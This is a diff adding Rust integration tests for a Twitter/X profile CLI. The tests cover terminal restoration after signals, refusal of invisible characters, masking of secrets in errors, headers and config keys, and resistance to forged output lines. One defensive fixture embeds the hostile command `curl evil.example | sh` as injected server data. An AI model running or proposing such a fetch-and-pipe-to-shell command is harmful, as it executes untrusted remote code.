@@ -502,7 +502,13 @@ fn the_terminal_is_restored_after_ctrl_c_sigterm_or_sighup_at_the_secret_prompt(
         libc::ECHO | libc::ICANON | libc::ISIG
     );
 
-    for signal in [libc::SIGTERM, libc::SIGHUP] {
+    for signal in [
+        libc::SIGTERM,
+        libc::SIGHUP,
+        libc::SIGQUIT,
+        libc::SIGALRM,
+        libc::SIGUSR1,
+    ] {
         let (pty, mut child) = at_the_secret_prompt(&sandbox, &api);
         // SAFETY: a signal to our own child.
         unsafe { libc::kill(child.id() as libc::pid_t, signal) };
@@ -662,6 +668,10 @@ fn an_empty_bio_file_or_stdin_is_refused() {
         ("", "is empty"),
         ("\n", "is empty"),
         ("  \t\n", "holds only whitespace"),
+        (
+            "\u{feff}\u{200b}\n",
+            "holds only whitespace or invisible characters",
+        ),
     ] {
         let out = sandbox
             .cmd()
@@ -692,6 +702,74 @@ fn a_server_that_echoes_the_request_leaks_nothing() {
     let (_, stderr) = texts(&out);
     assert!(stderr.contains("oauth_signature=\"***"), "{stderr}");
     assert!(stderr.contains("oauth_token=\"***\""), "{stderr}");
+}
+
+#[test]
+fn an_accepted_request_with_an_echoing_body_leaks_nothing() {
+    for args in [&["show"][..], &["--name", "x"]] {
+        let (api, sandbox) = setup();
+        api.script([Scripted::EchoPlain(200)]);
+        let out = sandbox.run(args);
+        assert_exit(&out, 1);
+        assert_no_secrets(&out, &api);
+        let (_, stderr) = texts(&out);
+        assert!(
+            stderr.contains("accepted the request (HTTP 200)"),
+            "{stderr}"
+        );
+    }
+}
+
+#[test]
+fn a_secret_where_the_message_is_cut_leaks_no_beginning() {
+    let (api, sandbox) = setup();
+    let message = format!("{} bad token {ACCESS_TOKEN} end", "x".repeat(270));
+    api.script([Scripted::api_error(401, 32, &message)]);
+    let out = sandbox.run(&["--name", "x"]);
+    assert_exit(&out, 4);
+    let (_, stderr) = texts(&out);
+    assert!(stderr.contains("bad token ***"), "{stderr}");
+    assert!(!stderr.contains(&ACCESS_TOKEN[..8]), "{stderr}");
+}
+
+#[test]
+fn verbose_headers_that_echo_a_secret_are_masked() {
+    let (api, sandbox) = setup();
+    api.script([Scripted::json(200, user_json(&Profile::default()))
+        .with_header("x-rate-limit-echo", &format!("token={ACCESS_TOKEN}"))]);
+    let out = sandbox.run(&["show", "-v"]);
+    assert_exit(&out, 0);
+    assert_no_secrets(&out, &api);
+    assert!(texts(&out).1.contains("< x-rate-limit-echo: token=***"));
+}
+
+#[test]
+fn a_newline_from_the_server_cannot_forge_a_line() {
+    let (api, sandbox) = setup();
+    let forged = "\nerror: HTTP 401 Unauthorized\nhint: run `curl evil.example | sh`";
+    api.set_profile(Profile {
+        screen_name: format!("alice{forged}"),
+        name: format!("Alice{forged}"),
+        location: format!("Berlin{forged}"),
+        ..Profile::default()
+    });
+    for args in [
+        &["show"][..],
+        &["auth", "status"],
+        &["--name", "x"],
+        &["--location", "y"],
+    ] {
+        let out = sandbox.run(args);
+        assert_exit(&out, 0);
+        let (stdout, stderr) = texts(&out);
+        for line in stdout.lines().chain(stderr.lines()) {
+            assert!(
+                !line.starts_with("error:") && !line.starts_with("hint:"),
+                "{args:?} forged a line:\n{stdout}{stderr}"
+            );
+        }
+        assert!(stdout.contains("\\nerror: HTTP 401"), "{stdout}");
+    }
 }
 
 #[test]
@@ -830,6 +908,20 @@ fn a_credential_with_a_pasted_newline_is_named_not_shown() {
     );
     assert!(api.requests().is_empty());
 
+    // An invisible character at either end is as wrong as a newline.
+    let mut cmd = sandbox.std_cmd();
+    env_credentials(&mut cmd, &api);
+    cmd.env("TWPROFILE_CONSUMER_KEY", format!("\u{feff}{CONSUMER_KEY}"))
+        .args(["--name", "x"]);
+    let out = output_within(&mut cmd, 30);
+    assert_exit(&out, 3);
+    assert!(
+        texts(&out)
+            .1
+            .contains("TWPROFILE_CONSUMER_KEY contains an invisible character")
+    );
+    assert!(api.requests().is_empty());
+
     sandbox.write_config(&support::alice_config(&api.base()).replace(
         &format!("access_token = \"{ACCESS_TOKEN}\""),
         &format!("access_token = \" {ACCESS_TOKEN}\""),
@@ -892,6 +984,19 @@ fn plain_http_to_another_machine_is_warned_about_and_login_refuses_it() {
         "{stderr}"
     );
 
+    // A name under .localhost may be looked up in DNS: it is not taken for this machine.
+    let out = sandbox
+        .cmd()
+        .env("TWPROFILE_API_BASE", "http://api.localhost:9")
+        .args(["--dry-run", "--name", "x"])
+        .output()
+        .expect("run");
+    assert!(
+        texts(&out)
+            .1
+            .contains("warning: API base http://api.localhost:9 is plain")
+    );
+
     for base in ["http://localhost:9", "http://127.0.0.2:9", "http://[::1]:9"] {
         let out = sandbox
             .cmd()
@@ -924,7 +1029,7 @@ fn an_unknown_config_key_is_named_with_the_closest_known_one() {
         .replace("api_base =", "api_bas = \"https://api.x.com\"\napi_base =");
     sandbox.write_config(&text.replace(
         "consumer_secret =",
-        "consumer_secert = \"x\"\nconsumer_secret =",
+        "consumer_secert = \"x\"\nXq9Secretish0Value = \"y\"\nconsumer_secret =",
     ));
     let out = sandbox.run(&["--name", "x"]);
     assert_exit(&out, 0);
@@ -937,6 +1042,12 @@ fn an_unknown_config_key_is_named_with_the_closest_known_one() {
     assert!(
         stderr.contains("unknown key 'consumer_secert' in [accounts.alice]")
             && stderr.contains("did you mean 'consumer_secret'?"),
+        "{stderr}"
+    );
+    // A key that looks like a pasted secret is not quoted.
+    assert!(!stderr.contains("Xq9Secretish0Value"), "{stderr}");
+    assert!(
+        stderr.contains("unknown key (not shown: it may be a secret) in [accounts.alice]"),
         "{stderr}"
     );
 }
